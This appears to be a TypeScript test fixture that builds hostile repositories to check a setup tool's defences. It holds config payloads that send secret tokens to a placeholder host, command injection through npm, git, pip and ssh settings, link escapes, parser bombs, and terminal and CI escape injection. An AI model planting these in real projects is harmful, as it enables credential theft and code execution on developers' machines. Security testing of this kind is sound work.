/** The attacks: repositories that somebody is asked to run the tool on. Data; ground.ts builds them. */
import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, renameSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:net';
import { hostname } from 'node:os';
import { join } from 'node:path';
import { git, type Tree } from '../../helpers/tree.ts';
import { FLASK } from '../program.ts';
import { both, config, folders, hardLink, inGit, link, pipe, program, type Attack, type Ground } from './ground.ts';

const COMPOSE = FLASK['docker-compose.yml'] ?? '';
const DOCKERFILE = FLASK['api/Dockerfile'] ?? '';
const times = (count: number, text: (i: number) => string): string => Array.from({ length: count }, (_, i) => text(i)).join('');
const compose = (text: string, more: Tree = {}): Tree => ({ ...FLASK, ...more, 'docker-compose.yml': text });

const MANIFEST = { name: 'web', version: '1.0.0', scripts: { start: 'node index.js', preinstall: '@EVIL@', install: '@EVIL@', prepare: '@EVIL@', postinstall: '@EVIL@' }, dependencies: { express: '^4.0.0' } };
/** An Express service with a lock file, so that a package manager has to follow. */
function node(more: Tree = {}, manifest: Readonly<Record<string, unknown>> = MANIFEST): Tree {
  return {
    'compose.yaml': 'services:\n  web:\n    build: .\n',
    'package.json': `${JSON.stringify(manifest, null, 2)}\n`,
    'package-lock.json': `${JSON.stringify({ name: 'web', version: '1.0.0', lockfileVersion: 3, requires: true, packages: { '': { name: 'web', version: '1.0.0', dependencies: manifest['dependencies'] } } }, null, 2)}\n`,
    'index.js': 'require("express")().listen(3000)\n',
    Dockerfile: 'FROM node:20\nWORKDIR /app\nCOPY package*.json ./\nRUN npm ci\nCOPY . .\nCMD ["npm", "start"]\n',
    ...more,
  };
}
const without = (tree: Tree, ...names: readonly string[]): Tree => Object.fromEntries(Object.entries(tree).filter(([name]) => !names.includes(name)));
const yarn = (more: Tree): Tree => without(node({ 'yarn.lock': '# yarn lockfile v1\n\n\nexpress@^4.0.0:\n  version "4.18.2"\n', ...more }), 'package-lock.json');
const pnpm = (more: Tree): Tree => without(node({ 'pnpm-lock.yaml': "lockfileVersion: '9.0'\nimporters:\n  .:\n    dependencies:\n      express:\n        specifier: ^4.0.0\n        version: 4.18.2\n", ...more }), 'package-lock.json');
const bun = (more: Tree): Tree => without(node({ 'bun.lock': '{\n  "lockfileVersion": 1,\n  "workspaces": { "": { "name": "web", "dependencies": { "express": "^4.0.0" } } },\n  "packages": {}\n}\n', ...more }), 'package-lock.json');

/** A Flask service whose packages are in pyproject.toml, with the lock of that manager. */
function python(lock: string, text: string, pyproject: string, more: Tree = {}): Tree {
  return {
    'compose.yaml': 'services:\n  api:\n    build: .\n',
    'app.py': 'from flask import Flask\napp = Flask(__name__)\n',
    'pyproject.toml': pyproject,
    [lock]: text,
    Dockerfile: 'FROM python:3.12\nWORKDIR /app\nCOPY . .\nRUN pip install .\nCMD ["flask", "run"]\n',
    'setup.py': 'import os\nos.system("@EVIL@")\n',
    ...more,
  };
}
const PROJECT = '[project]\nname = "api"\nversion = "1"\nrequires-python = ">=3.9"\ndependencies = ["flask"]\n';
const uv = (more: Tree, extra = ''): Tree => python('uv.lock', 'version = 1\nrequires-python = ">=3.9"\n', `${PROJECT}${extra}`, more);
const POETRY = '[tool.poetry]\nname = "api"\nversion = "1"\ndescription = ""\nauthors = []\n\n[tool.poetry.dependencies]\npython = "^3.9"\nflask = "*"\n';

const EVERY_VARIABLE = '${HONEYCOMB_API_KEY}-${AWS_SECRET_ACCESS_KEY}-${GITHUB_TOKEN}-${NPM_TOKEN}-${SECRET_OF_NO_KNOWN_NAME}';
const evilJs = 'require("child_process").execFileSync("@EVIL@");module.exports={}\n';

const managers: readonly Attack[] = [
  { name: 'npm: registry with variables', tries: 'send the environment in an address', real: ['npm'], tree: node({ '.npmrc': `registry=http://@HOST@/${EVERY_VARIABLE}/\n` }) },
  { name: 'npm: token of a variable', tries: 'send the environment in a header', real: ['npm'], tree: node({ '.npmrc': `registry=http://@HOST@/\n//@HOST@/:_authToken=${EVERY_VARIABLE}\nalways-auth=true\n` }) },
  { name: 'npm: proxy with variables', tries: 'send everything through a proxy', real: ['npm'], tree: node({ '.npmrc': `proxy=http://u:${EVERY_VARIABLE}@@HOST@/\nhttps-proxy=http://@HOST@/\n` }) },
  { name: 'npm: git= of the repository', tries: 'run a script instead of git', real: ['npm'], tree: node({ '.npmrc': 'git=@EVIL@\n' }, { ...MANIFEST, dependencies: { express: '^4.0.0', x: 'git+http://@HOST@/x.git' } }) },
  { name: 'npm: shell and scripts', tries: 'run scripts in a shell of its own', real: ['npm'], tree: node({ '.npmrc': 'ignore-scripts=false\nscript-shell=@EVIL@\nshell=@EVIL@\neditor=@EVIL@\nforeground-scripts=true\n' }) },
  { name: 'npm: node-options', tries: 'load a script into npm itself', real: ['npm'], tree: node({ '.npmrc': 'node-options=--require=@ROOT@/evil.cjs\nnode_options=--require=@ROOT@/evil.cjs\n', 'evil.cjs': evilJs }) },
  { name: 'npm: folders elsewhere', tries: 'write cache, logs and prefix outside', real: ['npm'], tree: node({ '.npmrc': 'cache=@OUTSIDE@/cache\nlogs-dir=@OUTSIDE@/logs\nprefix=@OUTSIDE@/prefix\nuserconfig=@OUTSIDE@/profile\nglobalconfig=@OUTSIDE@/global\ntmp=@OUTSIDE@/tmp\n' }) },
  { name: 'npm: dependencies by path', tries: 'read and link what lies outside', real: ['npm'], tree: node({}, { ...MANIFEST, dependencies: { express: '^4.0.0', out: 'file:../outside', home: 'file:../../../../../../etc', link: 'link:../outside' }, workspaces: ['../outside/*'] }) },
  { name: 'npm: dependencies by git and ssh', tries: 'run git with options of its own', real: ['npm'], tree: node({}, { ...MANIFEST, dependencies: { express: '^4.0.0', a: 'git+ssh://-oProxyCommand=@EVIL@/x', b: 'git+file://@ROOT@', c: 'git+http://@HOST@/${HONEYCOMB_API_KEY}.git' } }) },
  { name: 'npm: packageManager of an address', tries: 'fetch another npm', tree: node({}, { ...MANIFEST, packageManager: 'npm@http://@HOST@/npm.tgz', devEngines: { packageManager: { name: '@EVIL@', onFail: 'download' } } }) },
  { name: 'npm: in a folder below', tries: 'have the settings of a folder below read', tree: Object.fromEntries(Object.entries(node({ '.npmrc': `registry=http://@HOST@/${EVERY_VARIABLE}/\n` })).map(([path, text]) => [path === 'compose.yaml' ? path : `web/${path}`, path === 'compose.yaml' ? text.replace('build: .', 'build: ./web') : text])) },
  { name: 'yarn: plugin and yarnPath', tries: 'run a plugin', tree: yarn({ '.yarnrc.yml': `yarnPath: ./evil.cjs\nplugins:\n  - path: ./evil.cjs\n    spec: evil\nnpmRegistryServer: "http://@HOST@/${EVERY_VARIABLE}"\nnpmAuthToken: "${EVERY_VARIABLE}"\nunsafeHttpWhitelist: ["*"]\nenableScripts: true\ncacheFolder: "@OUTSIDE@/cache"\ninjectEnvironmentFiles: [.env.yarn]\n`, '.env.yarn': 'NODE_OPTIONS=--require=@ROOT@/evil.cjs\n', 'evil.cjs': evilJs }) },
  { name: 'yarn 1: yarn-path', tries: 'run another yarn', tree: yarn({ '.yarnrc': 'yarn-path "./evil.cjs"\nregistry "http://@HOST@/${HONEYCOMB_API_KEY}"\n--cache-folder "@OUTSIDE@/cache"\n', 'evil.cjs': evilJs }) },
  { name: 'yarn: released into the repository', tries: 'run a yarn of the repository', tree: yarn({ '.yarn/releases/yarn-4.0.0.cjs': evilJs, '.yarn/plugins/evil.cjs': evilJs, '.pnp.cjs': evilJs, '.pnp.loader.mjs': 'process.exit(1)\n', '.yarnrc.yml': 'yarnPath: .yarn/releases/yarn-4.0.0.cjs\n' }) },
  { name: 'pnpm: pnpmfile', tries: 'run hooks', tree: pnpm({ '.pnpmfile.cjs': evilJs, 'pnpmfile.js': evilJs, '.npmrc': `pnpmfile=@ROOT@/evil.cjs\nglobal-pnpmfile=@ROOT@/evil.cjs\nstore-dir=@OUTSIDE@/store\nregistry=http://@HOST@/${EVERY_VARIABLE}/\n`, 'evil.cjs': evilJs }) },
  { name: 'pnpm: settings of the workspace', tries: 'run hooks, and take configuration from elsewhere', tree: pnpm({ 'pnpm-workspace.yaml': 'packages: ["../outside/*"]\npnpmfile: ./evil.cjs\nconfigDependencies:\n  evil: 1.0.0+sha512-x\nmanagePackageManagerVersions: true\nnodeOptions: --require=@ROOT@/evil.cjs\nscriptShell: "@EVIL@"\n', 'evil.cjs': evilJs }) },
  { name: 'bun: preload and registry', tries: 'load a script into bun', tree: bun({ 'bunfig.toml': 'preload = ["./evil.cjs"]\n[install]\nregistry = { url = "http://@HOST@/", token = "$HONEYCOMB_API_KEY" }\n[install.cache]\ndir = "@OUTSIDE@/cache"\n', 'evil.cjs': evilJs }) },
  { name: 'uv: index with variables', tries: 'send the environment in an address', tree: uv({ 'uv.toml': 'index-url = "http://@HOST@/${HONEYCOMB_API_KEY}/simple"\ncache-dir = "@OUTSIDE@/cache"\nkeyring-provider = "subprocess"\nallow-insecure-host = ["*"]\n' }) },
  { name: 'uv: a dependency by path', tries: 'run setup.py', tree: uv({ 'evil/setup.py': 'import os\nos.system("@EVIL@")\n' }, '\n[tool.uv.sources]\nevil = { path = "./evil" }\nflask = { git = "http://@HOST@/flask" }\n') },
  { name: 'uv: a build backend of its own', tries: 'run the backend', tree: uv({ 'backend.py': 'import os\nos.system("@EVIL@")\n' }, '\n[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n') },
  { name: 'uv: a Python of its own', tries: 'run an interpreter of the repository', tree: uv({ '.python-version': '@EVIL@\n', '.venv/bin/python': '#!/bin/sh\n@EVIL@\n', '.venv/bin/python3': '#!/bin/sh\n@EVIL@\n', '.venv/pyvenv.cfg': 'home = @ROOT@\n' }), make: (at) => { for (const name of ['python', 'python3']) program(join(at.folder, '.venv/bin', name), at); } },
  { name: 'poetry: settings and sources', tries: 'send the environment, run a plugin', tree: python('poetry.lock', '[metadata]\nlock-version = "2.0"\npython-versions = "^3.9"\ncontent-hash = "0"\n', `${POETRY}evil = { path = "./evil" }\n\n[[tool.poetry.source]]\nname = "x"\nurl = "http://u:\${HONEYCOMB_API_KEY}@@HOST@/simple"\n\n[tool.poetry.requires-plugins]\nevil = { path = "./evil" }\n`, { 'poetry.toml': '[virtualenvs]\nin-project = true\npath = "@OUTSIDE@/venvs"\ncache-dir = "@OUTSIDE@/cache"\n', 'evil/setup.py': 'import os\nos.system("@EVIL@")\n' }) },
  { name: 'pdm: settings', tries: 'run a plugin and a hook', tree: python('pdm.lock', '[metadata]\nlock_version = "4.5"\n', `${PROJECT}\n[tool.pdm]\nplugins = ["-e file:///@ROOT@/evil"]\n[tool.pdm.scripts]\npre_lock = "@EVIL@"\npost_lock = "@EVIL@"\n[[tool.pdm.source]]\nurl = "http://\${HONEYCOMB_API_KEY}@@HOST@/simple"\nname = "pypi"\n`, { 'pdm.toml': 'cache_dir = "@OUTSIDE@/cache"\n', '.pdm-python': '@EVIL@\n' }) },
  { name: 'pipenv: source with variables', tries: 'send the environment', tree: without(python('Pipfile.lock', '{"_meta":{"hash":{"sha256":"0"},"pipfile-spec":6,"requires":{},"sources":[]},"default":{},"develop":{}}\n', '', { Pipfile: '[[source]]\nurl = "http://u:${HONEYCOMB_API_KEY}@@HOST@/simple"\nverify_ssl = false\nname = "x"\n\n[packages]\nflask = "*"\nevil = { path = ".", editable = true }\n\n[scripts]\npost = "@EVIL@"\n', '.env': '' }), 'pyproject.toml', '.env') },
  { name: 'pip-compile: index and path', tries: 'send the environment, run setup.py', tree: { ...FLASK, 'api/requirements.in': `--index-url http://@HOST@/\${HONEYCOMB_API_KEY}/simple\n--trusted-host 127.0.0.1\nflask\nevil @ file://@ROOT@/evil\n-e ./evil\n`, 'api/requirements.txt': '#\n# This file is autogenerated by pip-compile with Python 3.12\n#\nflask==3.0.0\n    # via -r requirements.in\n', 'api/evil/setup.py': 'import os\nos.system("@EVIL@")\n', 'evil/setup.py': 'import os\nos.system("@EVIL@")\n', 'api/.pip-tools.toml': '[tool.pip-tools]\nindex-url = "http://@HOST@/"\n', 'api/pip.conf': '[global]\nindex-url = http://@HOST@/\n' } },
];

const named = ['node_modules/.bin/git', 'node_modules/.bin/docker', 'node_modules/.bin/npm', 'node_modules/.bin/node', 'node_modules/.bin/python3', 'node_modules/.bin/sh', 'node_modules/.bin/gp'];
const planted = (...prefixes: readonly string[]) => (at: Ground): void => {
  for (const prefix of prefixes) for (const name of named) program(join(at.folder, prefix, name.split('/').at(-1) ?? ''), at);
};
const paths: readonly Attack[] = [
  { name: 'PATH: node_modules/.bin', tries: 'stand before git, docker and npm, as npx puts it', tree: node(), make: planted('node_modules/.bin'), path: ['@ROOT@/node_modules/.bin'] },
  { name: 'PATH: relative folders', tries: 'stand before git in "." and in "node_modules/.bin"', tree: node(), make: planted('', 'node_modules/.bin', 'bin'), path: ['.', 'node_modules/.bin', 'bin', ''] },
  { name: 'PATH: a link into the workspace', tries: 'come in by a folder outside that is a link into it', tree: node(), make: both(planted('bin'), (at) => symlinkSync(join(at.folder, 'bin'), join(at.home, 'bin'))), path: ['@HOME@/bin'] },
  { name: 'PATH: a folder above a service', tries: 'stand in bin/ of the repository while a command runs in a service', tree: node(), make: planted('venv/bin', '.venv/bin'), path: ['@ROOT@/venv/bin', '@ROOT@/.venv/bin'], env: { VIRTUAL_ENV: '@ROOT@/.venv' } },
];

const gits: readonly Attack[] = [
  { name: 'git: fsmonitor and hooks', tries: 'run programs with every git command', tree: FLASK, make: both(config(['core.fsmonitor', '@EVIL@'], ['core.hooksPath', '@ROOT@/hooks'], ['core.pager', '@EVIL@'], ['core.editor', '@EVIL@'], ['core.askPass', '@EVIL@'], ['core.gitProxy', '@EVIL@']), (at) => { for (const hook of ['post-index-change', 'pre-commit', 'post-checkout', 'reference-transaction', 'fsmonitor-watchman']) { program(join(at.folder, 'hooks', hook), at); program(join(at.folder, '.git/hooks', hook), at); } }) },
  { name: 'git: filters', tries: 'run programs over file contents', tree: { ...FLASK, '.gitattributes': '* filter=evil diff=evil merge=evil text=auto\n' }, make: config(['filter.evil.clean', '@EVIL@'], ['filter.evil.smudge', '@EVIL@'], ['filter.evil.process', '@EVIL@'], ['filter.evil.required', 'true'], ['diff.evil.textconv', '@EVIL@'], ['diff.external', '@EVIL@'], ['diff.evil.command', '@EVIL@'], ['merge.evil.driver', '@EVIL@']) },
  { name: 'git: aliases and credentials', tries: 'run programs instead of git commands', tree: FLASK, make: config(['alias.rev-parse', '!@EVIL@'], ['alias.ls-files', '!@EVIL@'], ['alias.check-ignore', '!@EVIL@'], ['alias.status', '!@EVIL@'], ['credential.helper', '!@EVIL@'], ['gpg.program', '@EVIL@'], ['trace2.eventTarget', '@OUTSIDE@/trace'], ['trace2.normalTarget', '@OUTSIDE@/trace2']) },
  { name: 'git: a partial clone', tries: 'fetch what is missing, with an ssh of its own', tree: FLASK, make: both(config(['core.repositoryFormatVersion', '1'], ['extensions.partialClone', 'origin'], ['remote.origin.url', 'ssh://127.0.0.1/x'], ['remote.origin.promisor', 'true'], ['remote.origin.partialclonefilter', 'blob:none'], ['remote.origin.uploadpack', '@EVIL@'], ['core.sshCommand', '@EVIL@']), (at) => { git(at.folder, '-c', 'user.name=a', '-c', 'user.email=a@example.org', '-c', 'commit.gpgsign=false', 'commit', '-q', '-m', 'x'); execFileSync('find', [join(at.folder, '.git/objects'), '-type', 'f', '-delete']); }) },
  { name: 'git: a promisor of a local program', tries: 'fetch by ext::', tree: FLASK, make: both(config(['core.repositoryFormatVersion', '1'], ['extensions.partialClone', 'origin'], ['remote.origin.url', 'ext::@EVIL@'], ['remote.origin.promisor', 'true'], ['protocol.ext.allow', 'always'], ['protocol.file.allow', 'always']), (at) => execFileSync('find', [join(at.folder, '.git/objects'), '-type', 'f', '-delete'])) },
  { name: 'git: a bare repository', tries: 'be taken for the repository, with its configuration', tree: { ...FLASK, HEAD: 'ref: refs/heads/main\n', config: '[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = "@ROOT@"\n\tfsmonitor = "@EVIL@"\n\thooksPath = "@ROOT@/hooks"\n', 'objects/x': '', 'refs/x': '' }, make: (at) => { rmSync(join(at.folder, '.git'), { recursive: true }); program(join(at.folder, 'hooks/post-index-change'), at); } },
  { name: 'git: a bare repository below', tries: 'the same in the folder of a service', tree: { ...FLASK, 'api/HEAD': 'ref: refs/heads/main\n', 'api/config': '[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = "@ROOT@/api"\n\tfsmonitor = "@EVIL@"\n', 'api/objects/x': '', 'api/refs/x': '' } },
  { name: 'git: a .git file that leads out', tries: 'have the configuration and the journal elsewhere', tree: FLASK, make: (at) => { renameSync(join(at.folder, '.git'), join(at.outside, 'gitdir')); writeFileSync(join(at.folder, '.git'), `gitdir: ${at.outside}/gitdir\n`); git(at.folder, 'config', 'core.fsmonitor', join(at.folder, 'evil.sh')); } },
  { name: 'git: a .git that is a link', tries: 'have the journal written outside', tree: FLASK, make: (at) => { renameSync(join(at.folder, '.git'), join(at.outside, 'gitdir')); symlinkSync(join(at.outside, 'gitdir'), join(at.folder, '.git')); } },
  { name: 'git: a worktree outside', tries: 'have other folders read and written', tree: FLASK, make: config(['core.worktree', '@OUTSIDE@']) },
  { name: 'git: included configuration', tries: 'bring configuration in a file of the tree', tree: { ...FLASK, gitconfig: '[core]\n\tfsmonitor = "@EVIL@"\n[alias]\n\tls-files = "!@EVIL@"\n' }, make: config(['include.path', '@ROOT@/gitconfig'], ['includeIf.gitdir:/.path', '@ROOT@/gitconfig']) },
  { name: 'git: a submodule', tries: 'be asked about with its own configuration', tree: { ...FLASK, '.gitmodules': '[submodule "api"]\n\tpath = api\n\turl = ext::@EVIL@\n\tupdate = !@EVIL@\n', 'api/.git': 'gitdir: ../.git/modules/api\n' }, untracked: true, make: (at) => { git(at.folder, 'init', '-q', '--bare', '.git/modules/api'); git(join(at.folder, '.git/modules/api'), 'config', 'core.bare', 'false'); git(join(at.folder, '.git/modules/api'), 'config', 'core.worktree', join(at.folder, 'api')); git(join(at.folder, '.git/modules/api'), 'config', 'core.fsmonitor', join(at.folder, 'evil.sh')); } },
  { name: 'git: files that are pipes', tries: 'hold git up for ever', tree: FLASK, untracked: true, make: (at) => { for (const name of ['index', 'info/exclude', 'packed-refs']) { rmSync(join(at.folder, '.git', name), { force: true }); mkdirSync(join(at.folder, '.git/info'), { recursive: true }); execFileSync('mkfifo', [join(at.folder, '.git', name)]); } } },
  { name: 'git: an index of noise', tries: 'crash what reads it', tree: FLASK, make: inGit('index', `DIRC\0\0\0\u0002${'\xff'.repeat(4096)}`) },
  { name: 'git: a repository of somebody else', tries: 'get the key into a tracked .env, since git refuses', tree: { ...FLASK, '.env': 'A=1\n' }, make: (at) => { if (process.getuid?.() === 0) execFileSync('chown', ['-R', '4711:4711', at.folder]); } },
  { name: 'git: excludes without an end', tries: 'hold git up', tree: FLASK, make: both(config(['core.excludesFile', '/dev/zero'], ['core.attributesFile', '/dev/zero']), inGit('info/attributes', times(2000, (i) => `${'*'.repeat(50)}a${i} -text\n`))) },
];

const openRecord = (goals: readonly Readonly<Record<string, unknown>>[]): string => JSON.stringify({ schema: 1, id: '000001', way: 'back', folders: ['../outside/deep'], next: { remove: [], keep: [] }, goals });
const goal = (path: string, temp = '.x.otel-setup-000001'): Readonly<Record<string, unknown>> => ({ path, bytes: Buffer.from('evil\n').toString('base64'), mode: 0o755, temp, inPlace: false, encoding: 'utf-8', other: null, secrets: [] });
const journals: readonly Attack[] = [
  { name: 'journal: a command to put back', tries: 'have verify.json run a command', tree: FLASK, make: both(inGit('otel-setup/root/verify.json', JSON.stringify({ schema: 1, runner: { pid: 1, host: hostname(), booted: 0 }, compose: ['@EVIL@'], cwd: '@ROOT@', services: [{ name: 'api', was: 'running', containers: 1, hash: '' }], networks: [], project: 'w' }).replace('@ROOT@', '@ROOT@')), inGit('otel-setup/root/verify.override.json', '{}')) },
  { name: 'journal: a file outside', tries: 'have recovery write outside', tree: FLASK, make: both(inGit('otel-setup/root/000001.open.json', openRecord([goal('../outside/profile'), goal('out/deep/new')])), (at) => symlinkSync(at.outside, join(at.folder, 'out'))) },
  { name: 'journal: a file to delete', tries: 'have recovery delete as its own temporary file', tree: FLASK, make: both(inGit('otel-setup/root/000001.open.json', openRecord([goal('out/x', 'profile')])), (at) => symlinkSync(at.outside, join(at.folder, 'out'))) },
  { name: 'journal: a folder that is a link', tries: 'have the journal written outside', tree: FLASK, make: (at) => symlinkSync(join(at.outside, 'deep'), join(at.folder, '.git/otel-setup')) },
  { name: 'journal: records that are pipes', tries: 'hold every command up', tree: FLASK, make: (at) => { mkdirSync(join(at.folder, '.git/otel-setup/root'), { recursive: true }); for (const name of ['verify.json', '000001.open.json', '000001.kept.json', 'running.1']) execFileSync('mkfifo', [join(at.folder, '.git/otel-setup/root', name)]); } },
  { name: 'journal: records of noise', tries: 'stop every command', tree: FLASK, make: both(inGit('otel-setup/root/000001.open.json', '{"schema":1,'), inGit('otel-setup/root/000002.kept.json', '['.repeat(50_000)), inGit('otel-setup/root/verify.json', '{"__proto__":{}}'), inGit('otel-setup/root/running.999999', 'x')) },
  { name: 'journal: an undo that writes', tries: 'have undo put text into files', tree: FLASK, make: inGit('otel-setup/root/000001.kept.json', JSON.stringify({ schema: 1, id: '000001', at: 1, services: ['api'], changed: [{ patch: { path: '../outside/profile', encoding: 'utf-8', before: '0'.repeat(64), after: '0'.repeat(64), splices: [{ at: 0, cut: 'evil\n', put: 'mine' }], kind: 'edit' }, around: [{ lead: '', tail: '' }] }], stores: [], folders: ['../outside/deep'] })) },
];

const AT_NAMES = ['.env', '.gitignore', '.dockerignore', 'api/requirements.txt', 'api/Dockerfile', 'api/.dockerignore', 'docker-compose.override.yml'];
const links: readonly Attack[] = [
  ...AT_NAMES.map((name): Attack => ({ name: `link: ${name} leads out`, tries: 'have it read from, or written to, outside', tree: FLASK, untracked: true, make: link(name, '@OUTSIDE@/profile') })),
  { name: 'link: .env leads to nothing', tries: 'have the key written to a new file outside', tree: FLASK, untracked: true, make: link('.env', '@HOME@/.new-profile') },
  { name: 'link: a service folder leads out', tries: 'have everything of a service outside', tree: without(FLASK, 'api/requirements.txt', 'api/app.py', 'api/Dockerfile'), untracked: true, make: both((at) => { for (const [name, text] of Object.entries(FLASK)) if (name.startsWith('api/')) writeFileSync(join(at.outside, name.slice(4)), text); }, link('api', '@OUTSIDE@')) },
  { name: 'link: the preload file leads out', tries: 'have it written outside', tree: node(), untracked: true, make: both(link('otel.cjs', '@OUTSIDE@/new.cjs'), link('otel.mjs', '@OUTSIDE@/new.mjs')) },
  { name: 'link: a loop', tries: 'hold up what follows links', tree: FLASK, untracked: true, make: both(link('.env', '.env'), link('a', 'b'), link('b', 'a'), link('api/loop', '../api')) },
  { name: 'hard link: .env', tries: 'have the key written into a file outside', tree: FLASK, untracked: true, make: hardLink('.env', '@OUTSIDE@/profile') },
  { name: 'hard link: files that are changed', tries: 'have a file outside changed', tree: FLASK, untracked: true, make: (at) => { for (const name of ['docker-compose.yml', 'api/requirements.txt', 'api/Dockerfile']) { const to = join(at.outside, name.replace('/', '-')); writeFileSync(to, FLASK[name] ?? ''); hardLink(name, to)(at); } } },
  { name: 'hard link: .gitignore', tries: 'have a file outside changed', tree: FLASK, untracked: true, make: hardLink('.gitignore', '@OUTSIDE@/profile') },
];

const things: readonly Attack[] = [
  { name: 'pipes at the names of settings', tries: 'hold every command up', tree: FLASK, untracked: true, make: pipe('.env', '.gitignore', '.dockerignore', '.npmrc', '.gitpod.yml', 'package.json', 'pyproject.toml', 'Procfile', 'api/.dockerignore', 'api/package.json', '.python-version') },
  { name: 'pipes at the names of a service', tries: 'hold every command up', tree: FLASK, untracked: true, make: pipe('api/Dockerfile', 'api/requirements.txt', 'api/app.py', 'docker-compose.override.yml') },
  { name: 'a compose file that is a pipe', tries: 'hold every command up', tree: FLASK, untracked: true, make: pipe('docker-compose.yml') },
  { name: 'folders at the names of files', tries: 'crash what reads them', tree: FLASK, untracked: true, make: folders('.env', '.gitignore', '.dockerignore', 'api/Dockerfile', 'api/requirements.txt') },
  { name: 'sockets at the names of files', tries: 'crash what reads them', tree: FLASK, untracked: true, make: (at) => { for (const name of ['.env', 's.sock']) createServer().listen(join(at.folder, name)).unref(); } },
  { name: 'devices by a link', tries: 'be read without an end', tree: FLASK, untracked: true, make: both(link('.env', '/dev/zero'), link('.gitignore', '/dev/urandom'), link('api/requirements.txt', '/dev/zero'), link('api/Dockerfile', '/dev/tty')) },
  { name: 'an env_file that is a pipe', tries: 'hold up what resolves the environment', tree: compose(`${COMPOSE}    env_file: [a.env, /dev/zero, ../outside/profile, ${'x'.repeat(300)}]\n`), untracked: true, make: pipe('a.env') },
];

const ESC = '\u001b[2J\u001b]0;owned\u0007\u001b]8;;http://evil\u0007\r';
const output: readonly Attack[] = [
  { name: 'escape codes everywhere', tries: 'steer the terminal', tree: { ...compose(`services:\n  "api\\e[31m\\e]0;x\\a":\n    build: ./api\n    environment:\n      OTEL_SERVICE_NAME: "\\e[2J\\e[31mx"\n      OTEL_EXPORTER_OTLP_ENDPOINT: "http://\\e[31m@HOST@"\n`), [`a${ESC.replaceAll('/', '')}.yml`]: 'x\n', 'api/requirements.txt': `flask\nb${ESC}==1\n`, 'api/Dockerfile': `${DOCKERFILE}LABEL x="${ESC}"\n` } },
  { name: 'commands of a CI', tries: 'set variables of a GitHub workflow', env: { GITHUB_ACTIONS: 'true' }, tree: compose('services:\n  "::set-output name=x::y":\n    build: ./api\n    environment:\n      OTEL_SERVICE_NAME: "\\n::add-mask::x\\n##[set-output name=a]b"\n  "##[set-env name=PATH]evil":\n    build: ./api\n  "x\\n::warning::y":\n    image: "::error::z"\n') },
  { name: 'commands of a CI in a YAML error', tries: 'the same through an error', env: { GITHUB_ACTIONS: 'true' }, tree: compose('services:\n  api: &a\n::set-output name=x::y\n##[set-output name=x]y\n') },
];

const BOMB = [...'abcdefghi'].map((name, i, all) => `x-${name}: &${name} [${Array(9).fill(i === 0 ? 'lol' : `*${all[i - 1] ?? ''}`).join(', ')}]\n`).join('');
const MERGE = [...'abcdefghi'].map((name, i, all) => `x-${name}: &${name}\n  k${name}: 1\n${i === 0 ? '' : `  <<: [${Array(9).fill(`*${all[i - 1] ?? ''}`).join(', ')}]\n`}`).join('');
const DEEP = 100_000;
const bombs: readonly Attack[] = [
  { name: 'bomb: aliases', tries: 'take all memory', tree: compose(`${BOMB}services: { api: { build: ./api, command: *i } }\n`) },
  { name: 'bomb: merge keys', tries: 'take all memory', tree: compose(`${MERGE}services: { api: { build: ./api, environment: { <<: *i } } }\n`) },
  { name: 'bomb: an alias of itself', tries: 'recur for ever', tree: compose('x: &x\n  y: *x\n  <<: *x\nservices:\n  api: &api\n    build: ./api\n    <<: *api\n') },
  { name: 'bomb: deep YAML', tries: 'end the stack', tree: compose(`${COMPOSE}x-a: ${'{a: '.repeat(DEEP)}\n`) },
  { name: 'bomb: deep JSON', tries: 'end the stack', tree: node({ 'package.json': `{"a":${'['.repeat(DEEP)}${']'.repeat(DEEP)},"dependencies":{"express":"1"}}`, 'tsconfig.json': '{"a":'.repeat(DEEP) }) },
  { name: 'bomb: deep TOML', tries: 'end the stack', tree: python('uv.lock', `a = ${'['.repeat(DEEP)}${']'.repeat(DEEP)}\n`, `${PROJECT}\n[tool]\na = ${'{ a = '.repeat(20_000)}1${' }'.repeat(20_000)}\n[${'a.'.repeat(20_000)}b]\n`) },
  { name: 'bomb: arguments of a Dockerfile', tries: 'take all memory', tree: { ...FLASK, 'api/Dockerfile': `FROM python:3.12\nARG A0=${'x'.repeat(64)}\n${times(40, (i) => `ARG A${i + 1}=$A${i}$A${i}\n`)}ENV B=$A40\nWORKDIR /app\nCMD flask run $A40\n` } },
  { name: 'bomb: variables of .env', tries: 'take all memory', tree: compose(COMPOSE.replace('"4567"', '$E39')), make: (at) => writeFileSync(join(at.folder, '.env'), `E0=xx\n${times(40, (i) => `E${i + 1}=\${E${i}}\${E${i}}\n`)}`) },
  { name: 'bomb: included files', tries: 'read for ever', tree: compose('include: [c0.yml]\n', { ...Object.fromEntries(Array.from({ length: 40 }, (_, i) => [`c${i}.yml`, `include: [c${i + 1}.yml, c${i + 2}.yml]\n`])), 'c40.yml': 'services: {}\n', 'c41.yml': 'services: {}\n' }) },
  { name: 'bomb: extended services', tries: 'recur for ever', tree: compose(`services:\n  loop: { extends: loop }\n  ping: { extends: { service: pong } }\n  pong: { extends: { service: ping, file: docker-compose.yml } }\n${times(3000, (i) => `  s${i}: { extends: s${i + 1} }\n`)}  s3000: { build: ./api }\n`) },
  { name: 'bomb: requirements that include each other', tries: 'read for ever', tree: { ...FLASK, 'api/requirements.txt': '-r r0.txt\n', ...Object.fromEntries(Array.from({ length: 42 }, (_, i) => [`api/r${i}.txt`, `-r r${i + 1}.txt\n-r r${i + 2}.txt\n-r r0.txt\n-c ../../../../etc/passwd\n`])) } },
  { name: 'bomb: the environment from itself', tries: 'recur for ever', tree: compose(`${COMPOSE}      A: "\${A:-\${A:-\${A}}}"\n      B: "${'${X:-'.repeat(5000)}${'}'.repeat(5000)}"\n    env_file: [a.env]\n`, { 'a.env': `A=\${A}\nB=\${C}\nC=\${B}\n${times(20_000, (i) => `V${i}=\${V${(i + 1) % 20_000}}\n`)}` }) },
  { name: 'a short line: ignore files', tries: 'hold up a match', tree: { ...FLASK, '.dockerignore': `${'*a'.repeat(100)}b\n${'**/'.repeat(60)}x\n[${'a-'.repeat(100)}\n`, 'api/.dockerignore': `${'*'.repeat(100)}b\n${'?*'.repeat(80)}!\n`, '.gitignore': `${'*a'.repeat(100)}b\n`, [`api/${'a'.repeat(200)}`]: 'x\n' } },
